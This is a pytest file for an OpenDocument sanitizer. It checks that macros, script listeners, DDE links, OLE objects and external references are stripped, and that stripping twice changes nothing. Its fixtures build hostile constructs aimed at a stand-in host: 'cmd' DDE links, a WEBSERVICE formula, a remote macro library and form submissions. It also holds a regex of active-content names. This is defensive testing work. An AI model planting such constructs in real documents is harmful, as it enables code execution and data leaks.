"""What must be gone (D01 to D05 and every removal of the issue), seen by zipfile and expat; what was shown stays; twice is once."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from sanitizers.model import Verdict, VerificationFailed
from sanitizers.source import Source
from sanitizers.verify import odf as opinion
from tests.build import odf as build
from tests.build.apart import both
from tests.build.context import context, run
from tests.build.odf import CANARY, Pack
from tests.build.ooxml import OLE, png

EVIL = f"http://192.0.2.1/{CANARY}"
SCRIPT = f"vnd.sun.star.script:{CANARY}?language=Basic"
LISTENER = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    f'xlink:href="{SCRIPT}"/></office:event-listeners>'
)


def _frame(inside: str) -> str:
    return f'<text:p><draw:frame draw:name="枠" svg:width="2cm" svg:height="2cm">{inside}</draw:frame></text:p>'


def _p(inside: str) -> Pack:
    return build.odt(f"<text:p>{inside}</text:p>")


def _cell(formula: str) -> Pack:
    return build.ods(f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="42"><text:p>42</text:p></table:table-cell>')


def _style(inside: str) -> Pack:
    return build.odt(styles=f'<style:style style:name="a" style:family="paragraph">{inside}</style:style>')


def _form(inside: str, attributes: str = "") -> Pack:
    return build.odt(f"<office:forms><form:form {attributes}>{inside}</form:form></office:forms>")


def _pilot(source: str) -> Pack:
    table = f'<table:data-pilot-table table:name="p" table:target-range-address="表1.A1:.B2">{source}</table:data-pilot-table>'
    return build.ods(inside=f"<table:data-pilot-tables>{table}</table:data-pilot-tables>")


def _range(source: str) -> Pack:
    inside = f'<table:database-range table:name="r" table:target-range-address="表1.A1:.B2">{source}</table:database-range>'
    return build.ods(inside=f"<table:database-ranges>{inside}</table:database-ranges>")


def _ole(element: str, member: str, media_type: str) -> Pack:
    shown = _frame(f'<draw:{element} xlink:href="./Object 1"/><draw:image xlink:href="Pictures/a.png"/>')
    return build.odt(shown).member(member, OLE, media_type).member("Pictures/a.png", png(), "image/png")


def _meta(inside: str) -> Pack:
    return build.odt().member("meta.xml", f"<office:document-meta {build.SPACES}><office:meta>{inside}</office:meta></office:document-meta>")


def _settings(name: str) -> Pack:
    item = f'<config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="{name}" config:type="string">{CANARY}</config:config-item></config:config-item-set>'
    return build.odt().member("settings.xml", f"<office:document-settings {build.SPACES}><office:settings>{item}</office:settings></office:document-settings>")


CASES: dict[str, tuple[Callable[[], Pack], str]] = {
    "D01 Basic": (lambda: build.odt().member(f"Basic/Standard/{CANARY}.xml", "<m/>").member("Basic/script-lc.xml", "<l/>"), "odf.macro"),
    "D01 dialogs": (lambda: build.odt().member(f"Dialogs/Standard/{CANARY}.xml", "<m/>"), "odf.macro"),
    "D01 Python": (lambda: build.odt().member("Scripts/python/a.py", CANARY), "odf.macro"),
    "D01 script element": (lambda: build.odt(before=f"<office:scripts><office:script script:language='ooo:Basic'>{CANARY}</office:script></office:scripts>"), "odf.macro"),
    "D01 linked library": (lambda: build.odt(before=f"<office:scripts><office:script script:language='ooo:Basic'><l:libraries xmlns:l='http://openoffice.org/2004/office'><l:library-linked xlink:href='{EVIL}'/></l:libraries></office:script></office:scripts>"), "odf.macro"),
    "D01 script field": (lambda: _p(f"<text:script script:language='JavaScript'>{CANARY}</text:script>"), "odf.macro"),
    "D02 listener of the document": (lambda: build.odt(before=f"<office:scripts>{LISTENER}</office:scripts>"), "odf.macro"),
    "D02 listener of a shape": (lambda: _p(f'<draw:rect svg:width="1cm" svg:height="1cm">{LISTENER}</draw:rect>'), "odf.event_listener"),
    "D02 listener of a control": (lambda: _form(f'<form:button form:name="b">{LISTENER}</form:button>'), "odf.event_listener"),
    "D02 listener of a slide": (lambda: build.odp(f'<draw:rect svg:width="1cm" svg:height="1cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="{EVIL}.exe"/></office:event-listeners></draw:rect>'), "odf.event_listener"),
    "D02 macro link": (lambda: _p(f'<text:a xlink:href="macro:///{CANARY}">文字</text:a>'), "odf.hyperlink"),
    "D02 script link": (lambda: _p(f'<text:a xlink:href="{SCRIPT}">文字</text:a>'), "odf.hyperlink"),
    "D02 service link": (lambda: _p(f'<text:a xlink:href="service:{CANARY}">文字</text:a>'), "odf.hyperlink"),
    "D02 link of a shape": (lambda: _p(f'<draw:a xlink:href="file:///{CANARY}"><draw:rect svg:width="1cm" svg:height="1cm"/></draw:a>'), "odf.hyperlink"),
    "D02 link on an area": (lambda: build.odt(_frame(f'<draw:image-map><draw:area-rectangle xlink:href="{SCRIPT}" svg:x="0" svg:y="0" svg:width="1cm" svg:height="1cm"/></draw:image-map>')), "odf.hyperlink"),
    "D02 link of a button": (lambda: _form(f'<form:button form:button-type="url" xlink:href="{SCRIPT}"/>'), "odf.hyperlink"),
    "D02 execute-macro": (lambda: _p(f'<text:execute-macro text:name="{CANARY}">文字</text:execute-macro>'), "odf.macro"),
    "D02 error-macro": (lambda: build.ods(inside=f'<table:content-validations><table:content-validation table:name="v"><table:error-macro table:name="{CANARY}"/></table:content-validation></table:content-validations>'), "odf.macro"),
    "D02 control of another program": (lambda: _form(f'<form:text form:control-implementation="ooo:{CANARY}"/>'), "odf.macro"),
    "D03 picture": (lambda: build.odt(_frame(f'<draw:image xlink:href="{EVIL}.png"/>')), "odf.external_image"),
    "D03 picture by UNC": (lambda: build.odt(_frame(f'<draw:image xlink:href="file://192.0.2.1/{CANARY}"/>')), "odf.external_image"),
    "D03 picture beside the file": (lambda: build.odt(_frame(f'<draw:image xlink:href="../{CANARY}.png"/>')), "odf.external_reference"),
    "D03 background": (lambda: _style(f'<style:paragraph-properties><style:background-image xlink:href="{EVIL}"/></style:paragraph-properties>'), "odf.external_image"),
    "D03 fill": (lambda: build.odt().member("styles.xml", f'<office:document-styles {build.SPACES}><office:styles><draw:fill-image draw:name="f" xlink:href="{EVIL}"/></office:styles></office:document-styles>'), "odf.external_image"),
    "D03 bullet": (lambda: build.odt(styles=f'<text:list-style style:name="l"><text:list-level-style-image text:level="1" xlink:href="{EVIL}"/></text:list-style>'), "odf.external_image"),
    "D03 picture of a control": (lambda: _form(f'<form:image form:image-data="{EVIL}"/>'), "odf.external_image"),
    "D03 property of a control": (lambda: _form(f'<form:text><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="{EVIL}"/></form:properties></form:text>'), "odf.external_reference"),
    "D03 section": (lambda: build.odt(f'<text:section text:name="s"><text:section-source xlink:href="{EVIL}"/><text:p>節</text:p></text:section>'), "odf.external_reference"),
    "D03 frame": (lambda: build.odt(_frame(f'<draw:floating-frame xlink:href="{EVIL}"/>')), "odf.external_reference"),
    "D03 plug-in": (lambda: build.odt(_frame(f'<draw:plugin xlink:href="{EVIL}"/>')), "odf.media"),
    "D03 applet": (lambda: build.odt(_frame(f'<draw:applet xlink:href="{EVIL}" draw:code="{CANARY}"/>')), "odf.media"),
    "D03 sound": (lambda: build.odp(f'<anim:par><anim:audio xlink:href="{EVIL}"/></anim:par>'), "odf.media"),
    "D03 animated command": (lambda: build.odp(f'<anim:par><anim:command anim:command="{CANARY}"/></anim:par>'), "odf.media"),
    "D03 DDE section": (lambda: build.odt(f'<text:section text:name="s"><office:dde-source office:dde-application="cmd" office:dde-topic="{CANARY}"/><text:p>節</text:p></text:section>'), "odf.dde"),
    "D03 DDE field": (lambda: build.odt(f'<text:dde-connection-decls><text:dde-connection-decl office:name="{CANARY}" office:dde-application="cmd" office:dde-topic="x" office:dde-item="y"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="{CANARY}">文字</text:dde-connection></text:p>'), "odf.dde"),
    "D03 DDE links": (lambda: build.ods(inside=f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="{CANARY}"/><table:table><table:table-row><table:table-cell office:value="1"/></table:table-row></table:table></table:dde-link></table:dde-links>'), "odf.dde"),
    "D03 DDE formula": (lambda: _cell(f"of:=DDE(&quot;cmd&quot;;&quot;{CANARY}&quot;;&quot;x&quot;)"), "odf.dde"),
    "D03 table source": (lambda: build.ods(inside=f'<table:table table:name="x"><table:table-source xlink:href="{EVIL}"/></table:table>'), "odf.external_reference"),
    "D03 cell source": (lambda: build.ods(f'<table:table-cell><table:cell-range-source table:name="a" xlink:href="{EVIL}"/><text:p>値</text:p></table:table-cell>'), "odf.external_reference"),
    "D03 WEBSERVICE": (lambda: _cell(f"of:=COM.MICROSOFT.WEBSERVICE(&quot;{EVIL}&quot;)"), "odf.formula"),
    "D03 unknown function": (lambda: _cell(f"of:=1+EVIL(&quot;{CANARY}&quot;)"), "odf.formula"),
    "D03 function of Excel": (lambda: _cell(f"msoxl:=CALL(&quot;{CANARY}&quot;)"), "odf.formula"),
    "D03 other file": (lambda: _cell(f"of:=['file:///{CANARY}.ods'#$Sheet1.A1]"), "odf.external_reference"),
    "D03 HYPERLINK": (lambda: _cell(f"of:=HYPERLINK(&quot;file:///{CANARY}&quot;)"), "odf.hyperlink"),
    "D03 name": (lambda: build.ods(inside=f"<table:named-expressions><table:named-expression table:name='n' table:expression=\"['file:///{CANARY}'#$A.A1]\"/></table:named-expressions>"), "odf.external_reference"),
    "D03 address": (lambda: build.ods(inside=f"<table:named-expressions><table:named-range table:name='n' table:cell-range-address=\"'file:///{CANARY}'#$A.A1\"/></table:named-expressions>"), "odf.external_reference"),
    "D03 address of a pilot": (lambda: _pilot(f"<table:source-cell-range table:cell-range-address=\"'file:///{CANARY}'#$A.A1\"/>"), "odf.external_reference"),
    "D03 condition": (lambda: _style(f"<style:map style:condition=\"is-true-formula(['file:///{CANARY}'#$A.A1])\" style:apply-style-name=\"a\"/>"), "odf.external_reference"),
    "D03 cell of a control": (lambda: _form(f"<form:text form:linked-cell=\"'file:///{CANARY}'#$A.A1\"/>"), "odf.external_reference"),
    "D03 database field": (lambda: _p(f'<text:database-display text:database-name="{CANARY}" text:table-name="t" text:column-name="c">文字</text:database-display>'), "odf.database"),
    "D03 database of a form": (lambda: _form("", f'form:datasource="{CANARY}" form:command="SELECT"'), "odf.database"),
    "D03 command of a form": (lambda: _form("", f'form:command="{CANARY}"'), "odf.database"),
    "D03 connection of a form": (lambda: _form(f'<form:connection-resource xlink:href="{EVIL}"/>'), "odf.database"),
    "D03 XForms": (lambda: build.odt(f'<office:forms><xforms:model><xforms:submission action="{EVIL}"/></xforms:model></office:forms>'), "odf.database"),
    "D03 form submits": (lambda: _form("", f'xlink:href="{EVIL}"'), "odf.form_submission"),
    "D03 pilot of a database": (lambda: _pilot(f'<table:database-source-sql table:database-name="{CANARY}" table:sql-statement="x"/>'), "odf.database"),
    "D03 pilot of a service": (lambda: _pilot(f'<table:source-service table:name="{CANARY}" table:source-name="x" table:object-name="y"/>'), "odf.database"),
    "D03 range of a database": (lambda: _range(f'<table:database-source-table table:database-name="{CANARY}" table:database-table-name="x"/>'), "odf.database"),
    "D03 range of a query": (lambda: _range(f'<table:database-source-query table:database-name="{CANARY}" table:query-name="x"/>'), "odf.database"),
    "D03 bibliography": (lambda: _p(f'<text:bibliography-mark text:bibliography-type="www" text:url="file:///{CANARY}">文字</text:bibliography-mark>'), "odf.hyperlink"),
    "D03 index file": (lambda: build.odt(f'<text:alphabetical-index text:name="i"><text:alphabetical-index-source><text:alphabetical-index-auto-mark-file xlink:href="{EVIL}"/></text:alphabetical-index-source></text:alphabetical-index>'), "odf.external_reference"),
    "D03 font": (lambda: build.odt(before=f'<office:font-face-decls><style:font-face style:name="F"><svg:font-face-src><svg:font-face-uri xlink:href="{EVIL}"/></svg:font-face-src></style:font-face></office:font-face-decls>'), "odf.font"),
    "D03 field mark": (lambda: _p(f'<f:fieldmark-start xmlns:f="urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0" f:type="{CANARY}"/>文字'), "odf.external_reference"),
    "D03 extension": (lambda: _p(f'<text:span loext:source="{EVIL}">文字</text:span>'), "odf.external_reference"),
    "D03 reload": (lambda: _meta(f'<meta:auto-reload xlink:href="{EVIL}" meta:delay="PT1S"/>'), "odf.external_reference"),
    "D03 template": (lambda: _meta(f'<meta:template xlink:href="{EVIL}"/>'), "file.metadata"),
    "D04 OLE": (lambda: _ole("object-ole", "Object 1", "application/vnd.sun.star.oleobject"), "odf.object"),
    "D04 OLE as object": (lambda: _ole("object", "Object 1", "application/vnd.sun.star.oleobject"), "odf.object"),
    "D04 object elsewhere": (lambda: build.odt(_frame(f'<draw:object xlink:href="{EVIL}"/>')), "odf.object"),
    "D04 configuration": (lambda: build.odt().member("Configurations2/accelerator/current.xml", f"<a>{CANARY}</a>"), "odf.settings"),
    "D04 printer": (lambda: _settings("PrinterSetup"), "odf.settings"),
    "D04 unknown member": (lambda: build.odt().member(f"Pictures/{CANARY}.py", "x"), "odf.unknown_member"),
    "D04 thumbnail": (lambda: build.odt().member("Thumbnails/thumbnail.png", CANARY), "odf.thumbnail"),
    "D04 signature": (lambda: build.odt().member("META-INF/documentsignatures.xml", f"<a>{CANARY}</a>"), "odf.signature"),
    "D04 signature of macros": (lambda: build.odt().member("META-INF/macrosignatures.xml", f"<a>{CANARY}</a>"), "odf.macro"),
    "D04 version": (lambda: build.odt().member("Versions/Version1", CANARY), "odf.version"),
    "D04 list of versions": (lambda: build.odt().member("VersionList.xml", f"<v>{CANARY}</v>"), "odf.version"),
    "D04 preview of nothing": (lambda: build.odt().member("ObjectReplacements/Object 1", CANARY), "odf.thumbnail"),
    "D04 RDF": (lambda: build.odt().member("manifest.rdf", f"<r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><r:Description r:about='{EVIL}'/></r:RDF>"), "odf.rdf"),
    "D04 RDF of a paragraph": (lambda: _p(f'<text:span xhtml:about="{EVIL}" xhtml:property="x">文字</text:span>'), "odf.rdf"),
    "D04 embedded font": (lambda: build.odt().member("Fonts/a.ttf", CANARY), "odf.font"),
    "D05 data in a package": (lambda: _p(f"<draw:frame><draw:object-ole><office:binary-data>{CANARY}</office:binary-data></draw:object-ole></draw:frame>"), "odf.object"),
    "unknown element": (lambda: build.odt(f'<x:run xmlns:x="urn:{CANARY}">1</x:run>'), "odf.unknown_markup"),
    "unknown attribute": (lambda: build.odt(f'<text:p x:run="{CANARY}" xmlns:x="urn:x">1</text:p>'), "odf.unknown_markup"),
    "author": (lambda: _meta(f"<dc:creator>{CANARY}</dc:creator>"), "file.metadata"),
    "property that marks nothing": (lambda: _meta(f"<meta:user-defined meta:name='会社'>{CANARY}</meta:user-defined>"), "file.metadata"),
}  # fmt: skip

_GONE = re.compile(
    r"event-listener|script|object-ole|plugin|applet|floating-frame|audio|command|dde-|execute-macro|error-macro|section-source|table-source|"
    r"cell-range-source|database-source|database-display|source-service|connection-resource|font-face-src|auto-mark-file|binary-data|model"
)


@pytest.mark.parametrize("case", CASES)
def test_is_gone_and_said(case: str) -> None:
    make, code = CASES[case]
    given = make().bytes()
    assert CANARY.encode() in build.texts(given)
    outcome = run(given, "様式")
    assert outcome.report.verdict is Verdict.SANITIZED, outcome.report.findings
    assert code in {finding.code for finding in outcome.report.findings}
    assert outcome.content is not None
    everything = build.texts(outcome.content.bytes())
    for trace in (CANARY.encode(), b"192.0.2.1", b"\xd0\xcf\x11\xe0", b"vnd.sun.star", b"macro:"):
        assert trace not in everything
    assert "本文".encode() in everything
    for node in build.walk(outcome.content.bytes()):
        assert not _GONE.match(node.local), node
        assert not node.name.startswith(build.O + "script"), node


@pytest.mark.parametrize("case", CASES)
def test_is_gone_from_large_documents_too(case: str) -> None:
    whole, apart = both(CASES[case][0]().bytes(), "様式")
    assert apart == whole


@pytest.mark.parametrize("case", CASES)
def test_twice_is_once(case: str) -> None:
    once = run(CASES[case][0]().bytes(), "様式").content
    assert once is not None
    twice = run(once.bytes(), "様式")
    assert twice.report.verdict is Verdict.CLEAN, twice.report.findings
    assert twice.content is not None
    assert twice.content.bytes() == once.bytes()


@pytest.mark.parametrize(
    ("case", "word"),
    [
        ("D02 execute-macro", "文字"), ("D02 macro link", "文字"), ("D03 section", "節"), ("D03 DDE section", "節"), ("D03 DDE field", "文字"),
        ("D03 database field", "文字"), ("D03 DDE formula", 'office:value="42"'), ("D03 cell source", "値"), ("D03 bibliography", "文字"),
        ("D02 link of a shape", "draw:rect"), ("D03 range of a database", "table:database-range"), ("D04 RDF of a paragraph", "文字"),
    ],
)  # fmt: skip
def test_shown_text_and_values_stay(case: str, word: str) -> None:
    content = run(CASES[case][0]().bytes(), "x").content
    assert content is not None
    assert word.encode() in build.texts(content.bytes())


@pytest.mark.parametrize("case", ["D04 OLE", "D04 OLE as object"])
def test_picture_of_an_object_stays(case: str) -> None:
    content = run(CASES[case][0]().bytes(), "x.odt").content
    assert content is not None
    assert build.members(content.bytes())["Pictures/a.png"].startswith(b"\x89PNG")
    assert [node.attributes["http://www.w3.org/1999/xlink href"] for node in build.walk(content.bytes()) if node.local == "image"] == ["Pictures/a.png"]


def test_pilot_without_a_source_goes_as_a_whole() -> None:
    """A pivot table that has no source is one that the office program repairs."""
    content = run(CASES["D03 pilot of a service"][0]().bytes(), "x.ods").content
    assert content is not None
    assert "data-pilot-table" not in {node.local for node in build.walk(content.bytes())}


def test_what_is_calculated_from_an_outside_name_keeps_its_value() -> None:
    names = "<table:named-expressions><table:named-expression table:name='B' table:expression='A+1'/><table:named-expression table:name='A' "
    names += "table:expression=\"['file:///x.ods'#$S.A1]\"/><table:named-expression table:name='C' table:expression='1'/></table:named-expressions>"
    cells = "".join(f'<table:table-cell table:formula="of:={n}*2" office:value-type="float" office:value="4{i}"/>' for i, n in enumerate("BbC"))
    content = run(build.ods(cells, inside=names).bytes(), "x.ods").content
    assert content is not None
    made = [node.attributes for node in build.walk(content.bytes()) if node.local == "table-cell"][1:]
    assert [attributes.get(f"{build.O}table:1.0 formula") for attributes in made] == [None, None, "of:=C*2"]
    assert [attributes[f"{build.O}office:1.0 value"] for attributes in made] == ["40", "41", "42"]
    assert [node.attributes[f"{build.O}table:1.0 name"] for node in build.walk(content.bytes()) if node.local == "named-expression"] == ["C"]


def test_a_link_opens_on_a_click_only() -> None:
    given = build.odt('<text:p><text:a xlink:href="https://example.jp/" xlink:actuate="onLoad">外</text:a></text:p>')
    outcome = run(given.bytes(), "x.odt")
    assert [finding.code for finding in outcome.report.findings] == ["odf.self_opening"]
    assert outcome.content is not None
    link = next(node for node in build.walk(outcome.content.bytes()) if node.local == "a")
    assert link.attributes["http://www.w3.org/1999/xlink actuate"] == "onRequest"


def test_an_object_cannot_point_beside_the_document() -> None:
    """`../Object 1` is another file for an office program; a careless reader of paths finds the member."""
    chart = build.content('<office:chart><chart:chart chart:class="chart:bar"/></office:chart>')
    pack = build.odt(_frame('<draw:object xlink:href="../Object 1"/>')).member("Object 1/content.xml", chart)
    pack.types["Object 1/"] = "application/vnd.oasis.opendocument.chart"
    content = run(pack.bytes(), "x.odt").content
    assert content is not None
    assert [node.attributes["http://www.w3.org/1999/xlink href"] for node in build.walk(content.bytes()) if node.local == "object"] == ["./Object 1"]


def test_an_object_in_a_folder_with_the_name_of_a_url() -> None:
    pack = build.odt(_frame('<draw:object xlink:href="http://192.0.2.1/x"/>')).member("http:/192.0.2.1/x/content.xml", build.content("<office:chart/>"))
    pack.types["http:/192.0.2.1/x/"] = "application/vnd.oasis.opendocument.chart"
    content = run(pack.bytes(), "x.odt").content
    assert content is None or b"192.0.2.1" not in build.texts(content.bytes())


@pytest.mark.parametrize(
    "inside",
    [
        "<text:p><text:script>1</text:script></text:p>", '<text:p><text:a xlink:href="file:///x">1</text:a></text:p>', f'<text:p><text:a xlink:href="{SCRIPT}">1</text:a></text:p>',
        _frame(f'<draw:image xlink:href="{EVIL}"/>'), '<text:section><text:section-source xlink:href="Pictures/a.png"/></text:section>',
        '<text:p><text:a xlink:href="https://example.jp/" xlink:actuate="onLoad">1</text:a></text:p>',
        f'<office:forms><form:form><form:text form:name="{SCRIPT}"/></form:form></office:forms>', '<x:y xmlns:x="urn:x"/>',
        '<text:p><text:span text:formula="of:=DDE(1)"/></text:p>', _frame("<draw:object-ole/>"), _frame('<draw:object xlink:href="./Object 9"/>'),
        f'<office:forms><form:form xlink:href="{EVIL}"/></office:forms>', _frame('<draw:object xlink:href="../Object 1"/>'),
    ],
)  # fmt: skip
def test_the_second_opinion_sees_it_too(inside: str) -> None:
    """What a broken sanitizer would let through."""
    data = build.odt(inside).bytes()
    with pytest.raises(VerificationFailed):
        opinion.verify(Source(data), Source(data), context("x.odt"))


@pytest.mark.corpus
def test_no_real_file_keeps_what_is_active() -> None:
    corpus = Path(__file__).parents[5] / "shared" / "corpus" / "odf"
    paths = sorted(corpus.rglob("embedded*.od*"))
    if not paths:
        pytest.skip("no corpus")
    for path in paths:
        content = run(path.read_bytes(), path.name).content
        assert content is not None, path.name
        assert not any(_GONE.match(node.local) for node in build.walk(content.bytes())), path.name
        assert not any(name.endswith((".py", ".bin")) or "Object 1" in name for name in build.members(content.bytes())), path.name
